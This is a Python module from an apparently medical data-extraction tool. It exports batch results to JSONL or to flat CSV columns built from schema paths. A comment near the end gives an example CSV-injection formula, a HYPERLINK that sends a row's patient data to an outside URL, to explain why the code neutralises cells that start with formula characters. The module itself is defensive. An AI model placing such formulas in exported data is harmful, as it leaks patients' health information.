"""A batch's results in the CONTRACT format: stored results, and the state of unfinished jobs."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass, field
from typing import Any, Literal

import redis

from medq.core.errors import MedqError, UnknownSchema
from medq.core.schemas import SchemaLoader
from medq.state.jobs import iter_states
from medq.state.results import ResultStore
from medq.state.results.document import from_state

# --csv-data json: today's layout, the extraction as one JSON column.
CSV_COLUMNS = (
    "id", "job_id", "batch", "schema", "schema_version", "status", "data", "error_kind", "error_message",
    "model", "endpoint", "attempts", "latency_ms", "usage", "metadata",
)
# --csv-data flat: id, a column per extracted value, then these.
JOB_COLUMNS = tuple(c for c in CSV_COLUMNS if c not in ("id", "data"))

CsvData = Literal["flat", "json"]

_CHUNK = 500


def iter_results(r: redis.Redis, store: ResultStore, batch: str) -> Iterator[dict[str, Any]]:
    """One document per job in the batch, in input order; ``data`` is null until it succeeds."""
    states = list(iter_states(r, batch))
    for i in range(0, len(states), _CHUNK):
        chunk = states[i : i + _CHUNK]
        stored = {doc["job_id"]: doc for doc in store.get_many(st.job_id for st in chunk)}
        for st in chunk:
            doc = stored.get(st.job_id)
            # The job state is newer when a failed job was requeued after its result was stored.
            if doc is None or doc["status"] != st.status:
                doc = from_state(st, doc)
            yield doc


def job_doc(r: redis.Redis, store: ResultStore, job_id: str) -> dict[str, Any] | None:
    """One job's document in the CONTRACT format; None if no such job (or its state expired)."""
    states = list(iter_states(r, "", [job_id]))
    if not states:
        return None
    stored = store.get(job_id)
    return stored if stored is not None and stored["status"] == states[0].status else from_state(states[0], stored)


def to_jsonl(doc: dict[str, Any]) -> str:
    return json.dumps(doc, ensure_ascii=False)


def csv_lines(docs: Callable[[], Iterable[dict[str, Any]]], data: CsvData = "flat",
              schemas: SchemaLoader | None = None) -> Iterator[str]:
    """The header, then one CSV line per document. ``docs`` is called once per pass:
    ``flat`` needs two (the first finds how wide each list column is), ``json`` one."""
    if data == "json":
        yield csv_header()
        yield from (to_csv(doc) for doc in docs())
        return
    layout = FlatLayout(schemas)
    for doc in docs():
        layout.observe(doc)
    yield _csv_line(layout.header())
    yield from (_csv_line(layout.row(doc)) for doc in docs())


def csv_header() -> str:
    return _csv_line(CSV_COLUMNS)


def to_csv(doc: dict[str, Any]) -> str:
    """One line of the ``--csv-data json`` layout: the extraction as a JSON column."""
    row = {**_job_cells(doc), "data": _cell(doc.get("data"))}
    return _csv_line([row[c] for c in CSV_COLUMNS])


def _job_cells(doc: dict[str, Any]) -> dict[str, str]:
    error = doc.get("error") or {}
    return {
        **{k: _cell(doc.get(k)) for k in ("id", *JOB_COLUMNS)},
        "error_kind": _cell(error.get("kind")),
        "error_message": _cell(error.get("message")),
        "usage": _cell(doc.get("usage") or None),
        "metadata": _cell(doc.get("metadata") or {}),
    }


# ------------------------------------------------------------ the flat layout


@dataclass
class _Node:
    """The shape of a value as columns: one cell, an object's keys, or a list's indexes."""

    kind: Literal["value", "object", "list"]
    children: dict[str, _Node] = field(default_factory=dict)  # object: key -> shape, in schema order
    item: _Node | None = None  # list: the items' shape (None until an item is seen: one cell)
    width: int = 0  # list: the longest seen

    @classmethod
    def from_schema(cls, prop: Any) -> _Node:
        if not isinstance(prop, dict) or "enum" in prop:
            return cls("value")
        t = prop.get("type")
        kinds = [k for k in (t if isinstance(t, list) else [t]) if k != "null"]
        if kinds == ["object"] and isinstance(prop.get("properties"), dict):
            return cls("object", {k: cls.from_schema(p) for k, p in prop["properties"].items()})
        if kinds == ["array"]:
            return cls("list", item=cls.from_schema(prop["items"]) if "items" in prop else None)
        return cls("value")  # scalars, and unions such as [string, array]: one cell (JSON if not scalar)

    @classmethod
    def for_value(cls, v: Any) -> _Node:
        return cls("object") if isinstance(v, dict) else cls("list") if isinstance(v, list) else cls("value")

    def observe(self, v: Any) -> None:
        """Widen to hold ``v``. A value that does not fit the schema's shape (a result of an
        older schema version) turns the node into one JSON cell rather than lose it."""
        if v is None or self.kind == "value":
            return
        if self.kind == "object":
            if not isinstance(v, dict):
                self.kind, self.children = "value", {}
                return
            for k, x in v.items():
                if x is not None:
                    self.children.setdefault(k, _Node.for_value(x)).observe(x)
            return
        if not isinstance(v, list):
            self.kind, self.item = "value", None
            return
        self.width = max(self.width, len(v))
        for x in v:
            if x is not None:
                if self.item is None:
                    self.item = _Node.for_value(x)
                self.item.observe(x)

    def columns(self, path: str) -> list[str]:
        if self.kind == "object" and self.children:
            return [c for k, child in self.children.items() for c in child.columns(f"{path}.{k}")]
        if self.kind == "list":
            item = self.item or _Node("value")
            # At least [0], so a list field never vanishes from the header when all are empty.
            return [c for i in range(max(self.width, 1)) for c in item.columns(f"{path}[{i}]")]
        return [path]

    def cells(self, v: Any) -> list[str]:
        """``v`` as cells under :meth:`columns`; raises ``_Misfit`` if it has more than they hold."""
        if self.kind == "object" and self.children:
            return _cells_of(self.children, v)
        if self.kind == "list":
            item = self.item or _Node("value")
            if v is None:
                v = []
            if not isinstance(v, list) or len(v) > max(self.width, 1):
                raise _Misfit
            return [c for i in range(max(self.width, 1)) for c in item.cells(v[i] if i < len(v) else None)]
        return [_cell(v)]


class _Misfit(Exception):
    pass


def _cells_of(children: dict[str, _Node], v: Any) -> list[str]:
    if v is None:
        v = {}
    # A null carries nothing an empty cell does not say; any other value needs a column.
    if not isinstance(v, dict) or any(x is not None and k not in children for k, x in v.items()):
        raise _Misfit
    return [c for k, child in children.items() for c in child.cells(v.get(k))]


class FlatLayout:
    """A batch's flat CSV columns: ``id``, a column per extracted value named by its path
    (``age``, ``vitals.spo2_pct``, ``medications[0].name``, ``diagnoses[1]``), then the job's.

    Columns follow the schema's fields in schema order, so every export of a schema starts
    the same way; lists are as wide as the batch's longest, so :meth:`observe` every
    document before the first :meth:`row`. Values the schema does not name (a field an
    older version had) get columns after the schema's.
    """

    def __init__(self, schemas: SchemaLoader | None = None) -> None:
        self._schemas = schemas
        self._data = _Node("object")
        self._seen: set[str] = set()

    def observe(self, doc: dict[str, Any]) -> None:
        name = doc.get("schema")
        if isinstance(name, str) and name not in self._seen:
            self._seen.add(name)
            for fname, prop in self._schema_fields(name).items():
                self._data.children.setdefault(fname, _Node.from_schema(prop))
        if isinstance(doc.get("data"), dict):
            self._data.observe(doc["data"])

    def header(self) -> list[str]:
        return ["id", *self._data_columns(), *JOB_COLUMNS]

    def row(self, doc: dict[str, Any]) -> list[str]:
        try:
            data = _cells_of(self._data.children, doc.get("data"))
        except _Misfit:
            # Only when the results changed between the two passes (a job of a running batch
            # finished with a longer list): the columns are written, and cutting values is worse.
            raise MedqError(
                f"record {doc.get('id')}: the batch's results changed while they were exported "
                "(a job finished with more values than the columns hold); export again, "
                "or use --csv-data json"
            ) from None
        job = _job_cells(doc)
        return [job["id"], *data, *(job[c] for c in JOB_COLUMNS)]

    def _schema_fields(self, name: str) -> dict[str, Any]:
        if self._schemas is None:
            return {}
        try:
            return self._schemas.get(name).fields
        except UnknownSchema:  # e.g. exported where that schema is not installed: columns from the data
            return {}

    def _data_columns(self) -> list[str]:
        cols = []
        for k, child in self._data.children.items():
            # A field named like a job column (``status``) would give two columns of that name.
            top = f"data.{k}" if k in ("id", *JOB_COLUMNS) else k
            cols += child.columns(top)
        return cols


# ------------------------------------------------------------ cells

# CSV injection: a spreadsheet runs a cell that starts with = + - @ (or tab / CR, which
# some strip first) as a formula, and the notes are free text that anyone who can write
# in a patient's record controls: =HYPERLINK("https://…/?"&C2) clicked in the sheet sends
# that row's PHI out of the hospital. The CSV is for spreadsheets (JSONL is the exact
# format for programs), so such text gets a leading ' as OWASP advises, which changes it.
# Numbers are left alone: JSON numbers are written as they are, and text that is just a
# number ("-5", "+1.5") is one to a spreadsheet too, never a formula.
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER_RE = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def _guard(text: str) -> str:
    if text.startswith(_FORMULA_START) and not _NUMBER_RE.fullmatch(text):
        return "'" + text
    return text


def _cell(v: Any) -> str:
    if v is None:
        return ""
    if isinstance(v, str):
        return _guard(v)
    # JSON's spelling for the rest: true/false, 36.6, and objects or lists in one cell.
    return _guard(json.dumps(v, ensure_ascii=False))


def _csv_line(values: Any) -> str:
    buf = io.StringIO()
    csv.writer(buf, lineterminator="").writerow(values)
    return buf.getvalue()
